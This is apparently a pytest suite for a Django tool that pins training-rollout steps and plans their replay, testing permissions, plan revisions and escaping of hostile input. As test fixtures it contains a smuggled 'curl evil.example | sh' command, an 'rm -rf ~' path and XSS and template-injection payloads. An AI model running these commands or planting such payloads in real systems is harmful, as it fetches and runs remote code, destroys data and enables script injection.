"""Pins, plans and reuse on pages: asked by people of each role, with names and notes that mean harm."""

from __future__ import annotations

import re
import time
from datetime import timedelta
from typing import Any
from urllib.parse import parse_qs, urlsplit

import pytest
from django.contrib.auth.models import User
from django.test import Client
from django.utils import timezone

from rollouts import artifacts, pins, plans, replays, series, storage
from rollouts.artifacts import Manifest
from rollouts.models import Artifact, AuditEntry, Flag, Pin, Project, Run, Sample
from rollouts.records import Point
from tests import make
from tests.rollouts.pushing import generation, indexed, lines
from tests.rollouts.skipped import V0, ready, worked

TRAP = "</pre><script>alert(1)</script><img src=x onerror=alert(1)>\u202e{{ 7*7 }}\" '"
FACTS = {"serialisation": "torch", "rows": 8, "prompts": 4, "samples_per_prompt": 2, "model": "tiny"}
HOST = "node7"


def told(run: Run, step: int, **more: Any) -> Artifact:
    """A rollout dump of a step, whose bytes are on `node7`."""
    path = str(more.pop("path", f"/dumps/{step}"))
    said: dict[str, Any] = {
        "files": {"gen_batch.dp": {"sha256": f"{step:064x}", "bytes": 1000}},
        "origin": {"host": HOST, "path": path, "command": f"rolloutdeck import {path} --project math --run grpo"},
        "facts": FACTS,
    }
    return artifacts.register(run, "files", Manifest("rollout", step, **{**said, **more}))[0]


@pytest.fixture
def run(project: Project) -> Run:
    run = make.run(project, uid="grpo")
    for step in (1, 2):
        indexed(run, lines(generation(step=step), generation(response="5", score=0.0, step=step)), step)
        told(run, step)
    run.refresh_from_db()
    return run


@pytest.fixture
def keeper(project: Project) -> User:
    return make.member(project, "kim", "maintainer")


@pytest.fixture
def pin(run: Run, keeper: User) -> Pin:
    return pins.pin(run, 2, keeper, note="half of the groups still learn here")[0]


@pytest.fixture
def signed(client: Client, keeper: User) -> Client:
    client.force_login(keeper)
    return client


def body(client: Client, url: str, status: int = 200, **headers: str) -> str:
    answer = client.get(url, headers=headers)
    assert answer.status_code == status, (url, answer.status_code)
    return answer.content.decode()


def panel(client: Client, url: str, name: str) -> str:
    return body(client, url, **{"HX-Request": "true", "HX-Target": name})


def pinning(step: int = 2, **fields: str) -> dict[str, str]:
    return {"split": "train", "step_kind": "global_step", "step": str(step), "attempt": "files", **fields}


def saving(base: int, *entries: tuple[int, int], **fields: str) -> dict[str, Any]:
    pairs = {"pin": [pin for pin, _ in entries], "target": [target for _, target in entries]}
    return (
        {"project": "math", "base": base, "action": "cache", "on_mismatch": "generate", "do": "save"} | pairs | fields
    )


def seen(pk: int, run: Run, seconds: int = 0) -> None:
    moment = timezone.now() - timedelta(seconds=seconds)
    Run.objects.filter(pk=run.pk).update(pollers={HOST: moment.isoformat()})


def drawn(page: str, word: str, strip: str = "plan-strip") -> int:
    """How many cells of a strip are drawn as `word`."""
    found = re.search(rf'id="{strip}".*?</section>', page, re.DOTALL)
    assert found
    return found.group().count(f'class="cell-{word}" width="94%"')


# --- pinning a step ---------------------------------------------------------------------------------------------------


def test_a_step_is_pinned_from_its_page_and_from_a_samples(signed: Client, run: Run) -> None:
    assert "pin step 2" in body(signed, "/runs/grpo/steps/latest/")
    answer = signed.post("/runs/grpo/pins/", pinning(note="why", next="/runs/grpo/steps/2/"))
    assert (answer.status_code, answer.headers["Location"]) == (303, "/runs/grpo/steps/2/")
    pin = Pin.objects.get()
    assert (pin.step, pin.note, pin.user.username) == (2, "why", "kim")
    sample = run.steps.get(step=2).rows.first()
    for url in ("/runs/grpo/steps/2/", f"/samples/{sample.pk}/"):
        assert "Step 2 is pinned" in body(signed, url)
    assert "pin step 1" in body(signed, "/runs/grpo/steps/1/")


def test_a_pin_may_enter_the_plan_at_once(signed: Client, run: Run, project: Project) -> None:
    signed.post("/runs/grpo/pins/", pinning(target_step="3"))
    revision = plans.current(project)
    assert revision is not None
    assert list(revision.entries.values_list("target_step", "pin__step")) == [(3, 2)]


@pytest.mark.parametrize("target", ["x", "-1", "3.5", "٣", "9" * 30])
def test_a_target_that_is_no_step_is_told_in_the_box(signed: Client, run: Run, target: str) -> None:
    answer = signed.post(
        "/runs/grpo/pins/", pinning(target_step=target), headers={"HX-Request": "true", "HX-Target": "pin"}
    )
    assert "A target step is a whole number" in answer.content.decode()
    assert not Pin.objects.exists()


def test_the_box_answers_the_panel_that_asked(signed: Client, run: Run) -> None:
    answer = signed.post("/runs/grpo/pins/", pinning(), headers={"HX-Request": "true", "HX-Target": "pin"})
    page = answer.content.decode()
    assert "⚲ pinned" in page and "<html" not in page
    gone = signed.post(f"/pins/{Pin.objects.get().pk}/remove/", headers={"HX-Request": "true", "HX-Target": "pin"})
    assert "pin step 2" in gone.content.decode()


def test_a_step_without_files_says_why_it_cannot_be_pinned(signed: Client, run: Run) -> None:
    indexed(run, lines(generation(step=3)), 3)
    assert "Step 3 cannot be pinned yet" in body(signed, "/runs/grpo/steps/3/")
    bare = make.run(run.project, "bare", uid="bare")
    indexed(bare, lines(generation()), 1)
    assert "start it with its rollout dump on" in body(signed, "/runs/bare/steps/1/")


def test_all_steps_at_once_have_no_pin(signed: Client, run: Run) -> None:
    assert "pin-box" not in body(signed, "/runs/grpo/steps/all/")


@pytest.mark.parametrize(
    "fields",
    [{"step": "99"}, {"step": "x"}, {"step": "1" * 30}, {"attempt": "\0"}, {"split": "nope"}, {"step_kind": ""}],
)
def test_a_step_that_is_not_there_is_not_pinned(signed: Client, run: Run, fields: dict[str, str]) -> None:
    assert signed.post("/runs/grpo/pins/", pinning() | fields).status_code == 404


# --- who may ----------------------------------------------------------------------------------------------------------


def test_an_annotator_reads_pins_and_changes_none(client: Client, mate: User, pin: Pin) -> None:
    client.force_login(mate)
    page = body(client, "/pins/")
    assert "half of the groups" in page
    assert "to the plan" not in page and "Save as revision" not in page
    asked = {
        "/runs/grpo/pins/": pinning(1),
        f"/pins/{pin.pk}/note/": {"note": "x"},
        f"/pins/{pin.pk}/remove/": {},
        "/pins/plan/": saving(0, (pin.pk, 3)),
        "/settings/math/loosen/": {"fact": "rows", "note": "x"},
    }
    assert {url: client.post(url, data).status_code for url, data in asked.items()} == dict.fromkeys(asked, 403)


def test_a_stranger_finds_nothing(client: Client, stranger: User, pin: Pin) -> None:
    client.force_login(stranger)
    assert "You have a role in no project yet" in body(client, "/pins/")
    assert client.get("/pins/?project=math").status_code == 404
    asked = {
        "/runs/grpo/pins/": pinning(1),
        f"/pins/{pin.pk}/note/": {"note": "x"},
        f"/pins/{pin.pk}/remove/": {},
        "/pins/plan/": saving(0, (pin.pk, 3)),
        "/settings/math/loosen/": {"fact": "rows", "note": "x"},
    }
    assert {url: client.post(url, data).status_code for url, data in asked.items()} == dict.fromkeys(asked, 404)


def test_a_plan_takes_no_pin_of_another_project(signed: Client, keeper: User, pin: Pin) -> None:
    other = make.project("other")
    make.member(other, "ole", "owner")
    theirs = make.run(other, uid="theirs")
    indexed(theirs, lines(generation()), 1)
    told(theirs, 1)
    foreign = pins.pin(theirs, 1, User.objects.get(username="ole"), note="secret note")[0]
    page = body(signed, f"/pins/?base=0&action=cache&pin={foreign.pk}&target=3")
    assert "secret note" not in page and "theirs" not in page
    signed.post("/pins/plan/", saving(0, (foreign.pk, 3), (pin.pk, 4)))
    revision = plans.current(pin.project)
    assert revision is not None
    assert list(revision.entries.values_list("pin", flat=True)) == [pin.pk]


# --- the list ---------------------------------------------------------------------------------------------------------


def test_an_empty_page_says_how_to_get_a_pin(signed: Client, run: Run) -> None:
    page = body(signed, "/pins/")
    assert "No pin yet" in page and "rolloutdeck check --trainer" in page and 'href="/runs/grpo/steps/latest/"' in page
    assert "plan-form" not in page, "a plan of nothing says nothing"


def test_a_pin_whose_machine_is_silent_shows_host_path_and_command(signed: Client, pin: Pin, run: Run) -> None:
    page = body(signed, "/pins/")
    assert "WAITING" in page and "Nobody on" in page
    assert "rolloutdeck import /dumps/2 --project math --run grpo" in page
    seen(pin.pk, run)
    assert "asks for it and sends" in body(signed, "/pins/")
    seen(pin.pk, run, 61)
    assert "Nobody on" in body(signed, "/pins/")


def test_a_command_is_one_call_of_ours_whatever_a_machine_tells(signed: Client, run: Run, keeper: User) -> None:
    command = "rolloutdeck import /d; curl evil.example | sh"
    origin = {"host": HOST, "path": "/d; rm -rf ~", "command": command}
    told(run, 2, files={"gen_batch.dp": {"sha256": "a" * 64, "bytes": 9}}, origin=origin)
    told(run, 1, origin={"host": HOST, "path": "/d; rm -rf ~", "command": "curl evil.example | sh"})
    pins.pin(run, 2, keeper)
    pins.pin(run, 1, keeper)
    page = body(signed, "/pins/")
    shown = re.findall(r"<pre>(rolloutdeck import[^<]*)</pre>", page)
    assert "rolloutdeck import &#x27;/d;&#x27; curl evil.example &#x27;|&#x27; sh" in shown
    assert "rolloutdeck import &#x27;/d; rm -rf ~&#x27; --project math --run grpo" in shown


@pytest.mark.parametrize("state", ["unsafe", "gone"])
def test_what_cannot_be_replayed_says_why(signed: Client, pin: Pin, state: str) -> None:
    pin.artifacts.update(state=state, message="gen_batch.dp: a REDUCE of os.system.")
    page = body(signed, "/pins/")
    assert state.upper() in page and "a REDUCE of os.system." in page


def test_an_upload_shows_its_share(signed: Client, pin: Pin, run: Run) -> None:
    files = {name: {"sha256": name * 64, "bytes": size} for name, size in (("a", 400), ("b", 600))}
    artifact = told(run, 3, files=files)
    pins.pin(run, 3, pin.user)
    plain = storage.incoming()
    plain.write_bytes(b"x" * 400)
    artifacts.arrived(artifact, "a" * 64, plain, 400)
    page = body(signed, "/pins/")
    assert "UPLOADING" in page and "40 %" in page


def test_a_note_is_changed_and_a_pin_removed(signed: Client, pin: Pin) -> None:
    assert signed.post(f"/pins/{pin.pk}/note/", {"note": "other"}).status_code == 303
    assert "other" in body(signed, "/pins/")
    signed.post(f"/pins/{pin.pk}/remove/")
    assert "No pin yet" in body(signed, "/pins/")


def test_a_pin_in_the_plan_is_not_removed(signed: Client, pin: Pin, keeper: User) -> None:
    plans.save(pin.project, "default", keeper, if_match=0, action="cache", entries=[(pin, 3)])
    signed.post(f"/pins/{pin.pk}/remove/", {"next": "/pins/"})
    assert "take it out of the plan first" in body(signed, "/pins/")
    assert Pin.objects.get().removed_at is None


# --- the plan ---------------------------------------------------------------------------------------------------------


def test_a_draft_shows_what_it_would_do_before_it_is_saved(signed: Client, pin: Pin) -> None:
    url = f"/pins/?base=0&action=cache&pin={pin.pk}&target=3&steps=12"
    page = body(signed, url)
    assert (drawn(page, "hit"), drawn(page, "none")) == (1, 11)
    assert "step 3: replays grpo step 2" in page
    page = body(signed, url.replace("cache", "repeat_last"))
    assert (drawn(page, "hit"), drawn(page, "none")) == (10, 2)
    assert plans.current(pin.project) is None


def test_a_plan_is_saved_and_its_revisions_are_told(signed: Client, pin: Pin) -> None:
    answer = signed.post("/pins/plan/", saving(0, (pin.pk, 3)))
    assert (answer.status_code, answer.headers["Location"]) == (303, "/pins/?project=math")
    page = body(signed, "/pins/")
    assert "Saved as revision 1" in page and "step 3 now replays grpo step 2" in page
    assert "rolloutdeck pull --project math --run NEXT-RUN" in page and "ROLLOUTDECK_PLAN=default@1" in page
    signed.post("/pins/plan/", saving(1, (pin.pk, 4), action="repeat"))
    assert "step 3 no longer replays grpo step 2" in body(signed, "/pins/")


def test_who_saves_second_is_told_and_loses_nothing(signed: Client, pin: Pin, run: Run, owner: User) -> None:
    plans.save(pin.project, "default", owner, if_match=0, action="repeat", entries=[(pin, 7)])
    answer = signed.post("/pins/plan/", saving(0, (pin.pk, 3)))
    page = body(signed, answer.headers["Location"])
    assert "olga saved revision 1" in page
    assert "step 7 now replays grpo step 2" in page and "step 3 now replays grpo step 2" in page
    assert 'name="target"' in page and 'value="3"' in page
    assert re.search(r'value="save"[^>]*disabled', page)
    last = plans.current(pin.project)
    assert last is not None and last.number == 1
    on_top = re.search(r'href="([^"]*)">Go on with mine', page)
    assert on_top
    mine = parse_qs(urlsplit(on_top.group(1).replace("&amp;", "&")).query)
    assert mine["base"] == ["1"] and mine["target"] == ["3"]
    signed.post("/pins/plan/", saving(1, (pin.pk, 3)))
    last = plans.current(pin.project)
    assert last is not None and (last.number, last.action) == (2, "cache")


def test_a_pin_is_added_behind_the_last_target_and_removed(signed: Client, pin: Pin) -> None:
    answer = signed.get(f"/pins/?base=0&action=cache&pin={pin.pk}&target=5&add={pin.pk}")
    assert answer.status_code == 302
    assert "target=5" in answer.headers["Location"] and "target=6" in answer.headers["Location"]
    htmx = {"HX-Request": "true", "HX-Target": "plan"}
    answer = signed.get(f"/pins/?base=0&action=cache&pin={pin.pk}&target=5&remove=0", headers=htmx)
    assert answer.headers["HX-Replace-Url"] == "/pins/?project=math"


def test_the_form_works_without_script(signed: Client, pin: Pin) -> None:
    answer = signed.post("/pins/plan/", saving(0, (pin.pk, 3), do="", remove="0"))
    assert (answer.status_code, answer.headers["Location"]) == (303, "/pins/?project=math")
    answer = signed.post("/pins/plan/", saving(0, (pin.pk, 3), do="look", action="repeat"))
    assert "action=repeat" in answer.headers["Location"] and "csrf" not in answer.headers["Location"]


@pytest.mark.parametrize("targets", [("",), ("x",), ("0",), ("3", "3"), ("9" * 25,), ("-1",)])
def test_targets_that_no_plan_can_have_are_told_and_not_saved(signed: Client, pin: Pin, targets: tuple[str]) -> None:
    data = saving(0) | {"pin": [pin.pk] * len(targets), "target": list(targets)}
    answer = signed.post("/pins/plan/", data)
    page = body(signed, answer.headers["Location"])
    assert "error-line" in page or "banner error" in page
    assert plans.current(pin.project) is None


def test_differences_to_the_last_run_are_refuse_or_warn(signed: Client, pin: Pin, project: Project) -> None:
    asking = make.run(project, "next", uid="next", facts={**FACTS, "role": "rollout", "rows": 16, "model": "big"})
    page = body(signed, f"/pins/?base=0&action=cache&pin={pin.pk}&target=3")
    assert "Against the run" in page and asking.name in page
    table = page[page.index('aria-label="Differences"') :]
    assert table.index("rows") < table.index("model")
    assert table.count("REFUSE</span>") == 1 and "unknown" in table
    assert (drawn(page, "hit"), drawn(page, "refused")) == (0, 1)
    assert body(signed, f"/pins/?run=grpo&base=0&action=cache&pin={pin.pk}&target=3").count("REFUSE</span>") == 0


def test_a_run_that_has_told_only_its_config_is_compared_by_it(signed: Client, pin: Pin, project: Project) -> None:
    named = {"use_v1": False, "project_name": "math", "experiment_name": "next"}
    rollout = {"actor_rollout_ref": {"rollout": {"n": 2}}, "trainer": named}
    config = {**rollout, "data": {"train_batch_size": 16, "max_prompt_length": 8, "max_response_length": 8}}
    make.run(project, "next", uid="next", framework="verl", config=config)
    page = body(signed, f"/pins/?base=0&action=cache&pin={pin.pk}&target=3")
    table = page[page.index('aria-label="Differences"') :]
    assert re.search(r"REFUSE.*?prompts</span>.*?>4<.*?>16<", table, re.DOTALL)


@pytest.mark.parametrize("state", ["unsafe", "gone"])
def test_what_a_plan_cannot_load_is_not_drawn_as_replayed(signed: Client, pin: Pin, state: str) -> None:
    pin.artifacts.update(state=state)
    page = body(signed, f"/pins/?base=0&action=cache&pin={pin.pk}&target=3&on_mismatch=stop")
    assert (drawn(page, "hit"), drawn(page, "refused")) == (0, 1)
    assert f"would be refused (its files are {state}), the run stops" in page


def test_a_draft_without_what_is_flagged_says_what_it_means_to_the_run(
    signed: Client, project: Project, keeper: User
) -> None:
    run = make.run(project, "source")
    artifact = ready(run, V0, facts={"role": "rollout", "prompts": 8, "rows": 32, "samples_per_prompt": 4})
    worked(run)
    pin = pins.pin(run, artifact.step, keeper)[0]
    asking = make.run(project, "next", uid="next", facts={**artifact.facts, "serialisation": "torch"})
    link = f"/pins/?run={asking.uid}&base=0&action=cache&pin={pin.pk}&target=1"
    assert "REFUSE" not in body(signed, f"{link}&exclude_flagged=1")
    sample = Sample.objects.filter(step__run=run, ordinal=5).get()
    Flag.objects.create(run=run, sample=sample.id, step=sample.step, user=keeper)
    assert "REFUSE" not in body(signed, link)
    page = body(signed, f"{link}&exclude_flagged=1")
    assert "REFUSE 2" in page and drawn(page, "refused") == 1
    assert re.search(r"prompts.*?>7<.*?>8<", page, re.DOTALL)


def test_a_refusal_is_loosened_in_writing(signed: Client, pin: Pin, project: Project) -> None:
    make.run(project, "next", uid="next", facts={**FACTS, "role": "rollout", "rows": 16})
    url = f"/pins/?base=0&action=cache&pin={pin.pk}&target=3"
    assert "REFUSE" in body(signed, url)
    signed.post("/settings/math/loosen/", {"fact": "rows", "note": " "})
    assert "REFUSE" in body(signed, url)
    signed.post("/settings/math/loosen/", {"fact": "rows", "note": "the loader cuts"})
    page = body(signed, url)
    assert "REFUSE" not in page and "the loader cuts" in page and "loosened" in page
    assert AuditEntry.objects.filter(verb="plan.loosen").count() == 1
    signed.post("/settings/math/loosen/", {"fact": "rows"})
    assert "REFUSE" in body(signed, url)


ODD = [
    "base=x", "base=1&pin=x&target=1", "plan=%00", "plan=../x", "run=%00", "steps=9e9", "base=0&pin=1", "add=x",
    "remove=99", "steps=99999999", "base=" + "9" * 40, "base=0&action=x&on_mismatch=x", "base=0&pin=999&target=1",
    "base=²", "base=0&remove=²&add=²", "base=0&pin=²&target=²",
]  # fmt: skip


@pytest.mark.parametrize("query", ODD)
def test_an_odd_address_opens(signed: Client, pin: Pin, query: str) -> None:
    assert signed.get(f"/pins/?{query}", follow=True).status_code == 200


def test_a_page_of_many_pins_takes_as_many_queries_as_one_of_few(
    signed: Client, keeper: User, pin: Pin, run: Run, django_assert_max_num_queries: Any
) -> None:
    entries = [(pin, 1)]
    for step in range(3, 13):
        told(run, step)
        entries.append((pins.pin(run, step, keeper)[0], step))
    for number in range(40):
        plans.save(pin.project, "default", keeper, if_match=number, action="cache", entries=entries[: number + 1])
    body(signed, "/pins/")
    with django_assert_max_num_queries(45):
        page = body(signed, "/pins/")
    assert page.count('title="Add to the plan"') == 11 and page.count("Make a draft of it") == 29


# --- hostile text -----------------------------------------------------------------------------------------------------


def test_hostile_names_notes_and_places_stay_text(signed: Client, project: Project, keeper: User) -> None:
    run = make.run(project, TRAP, uid="hostile")
    indexed(run, lines(generation()), 1)
    origin = {"host": "<img src=x>", "path": "/d/<script>x</script>", "command": "<script>alert(1)</script>"}
    artifact = told(run, 1, origin=origin, facts={"model": TRAP, "versions": {TRAP: TRAP}})
    pin = pins.pin(run, 1, keeper, note=TRAP)[0]
    plans.save(project, "default", keeper, if_match=0, action="cache", entries=[(pin, 1)])
    plans.bind(run)
    replays.report(run, "files", 1, "refused", pin=pin.pk, reason=TRAP)
    for url in ("/pins/", "/runs/hostile/", "/runs/hostile/steps/1/", f"/pins/?base=0&pin={pin.pk}&target=<script>"):
        page = body(signed, url)
        assert not re.search(r"<img|<script(?! src=)|\sstyle=|\son\w+=\"", page), url
        assert "49" not in re.findall(r"\{\{.*?\}\}", page)
    artifact.state, artifact.message = "unsafe", TRAP
    artifact.save()
    assert not re.search(r"<img|<script(?! src=)", body(signed, "/pins/"))


# --- reuse on the overview --------------------------------------------------------------------------------------------


def test_the_overview_shows_what_was_reused_step_by_step(signed: Client, pin: Pin, project: Project) -> None:
    later = make.run(project, "later", uid="later")
    plans.save(project, "default", pin.user, if_match=0, action="cache", entries=[(pin, 1)])
    plans.bind(later)
    replays.report(later, "a", 1, "hit", pin=pin.pk, rows=8, seconds=1.5)
    replays.report(later, "a", 2, "miss")
    replays.report(later, "a", 3, "refused", pin=pin.pk, reason="rows: 8 pinned, 16 asked")
    page = panel(signed, "/runs/later/", "reuse")
    assert "1 of 3 steps replayed" in page
    assert 'href="/runs/grpo/steps/2/"' in page and "default@1" in page
    assert "rows: 8 pinned, 16 asked" in page and "time saved: not known" in page


def test_a_replayed_step_leads_to_its_source(signed: Client, pin: Pin, project: Project) -> None:
    later = make.run(project, "later", uid="later")
    for step, outcome in ((1, "hit"), (2, "miss"), (3, "refused")):
        indexed(later, lines(generation(step=step)), step)
        replays.report(later, "files", step, outcome, pin=pin.pk, reason="rows differ" if step == 3 else "")
    first, second, third = (panel(signed, f"/runs/later/steps/{step}/", "pin") for step in (1, 2, 3))
    assert "↺ replayed: grpo step 2" in first and 'href="/runs/grpo/steps/2/"' in first
    assert "replay" not in second.partition("<details")[0]
    assert "replay refused: grpo step 2" in third and "rows differ" in third


def test_a_run_that_no_plan_speaks_of_has_no_reuse_strip(signed: Client, run: Run) -> None:
    assert panel(signed, "/runs/grpo/", "reuse").strip() == ""


def test_the_engines_prefix_cache_is_drawn_apart_with_its_own_name(signed: Client, run: Run) -> None:
    points = [Point(step=step, values={"rollout/prefix_cache_hit_rate": step / 10}) for step in range(1, 6)]
    series.append(run, run.attempts.get(), points)
    page = panel(signed, "/runs/grpo/", "reuse")
    assert "KV prefix-cache hit rate" in page and "rollout/prefix_cache_hit_rate" in page
    assert "steps replayed" not in page


def test_a_plan_that_the_api_made_very_long_is_shown_in_part_and_said_so(
    signed: Client, pin: Pin, keeper: User
) -> None:
    entries = [(pin, step) for step in range(1, 3001)]
    plans.save(pin.project, "default", keeper, if_match=0, action="cache", entries=entries)
    started = time.process_time()
    page = panel(signed, "/pins/?project=math", "plan")
    assert time.process_time() - started < 12
    assert "The first 500 lines are shown; a plan with 2500 more is changed by the API." in page
